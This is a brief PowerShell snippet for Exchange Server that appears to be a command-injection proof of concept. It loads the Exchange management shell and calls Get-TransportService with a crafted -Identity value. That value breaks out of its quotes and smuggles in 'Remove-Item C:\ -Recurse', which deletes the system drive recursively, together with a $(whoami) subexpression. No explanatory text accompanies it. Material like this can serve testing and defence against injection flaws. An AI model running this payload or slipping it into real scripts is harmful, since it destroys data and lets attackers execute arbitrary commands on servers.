. "$env:ExchangeInstallPath\bin\RemoteExchange.ps1" | Out-Null
Connect-ExchangeServer -auto -ClientApplication:ManagementShell | Out-Null
"$((Get-TransportService -Identity 'EX01''; Remove-Item C:\ -Recurse; ''’’$(whoami)`n
x').InternalTransportCertificateThumbprint)"
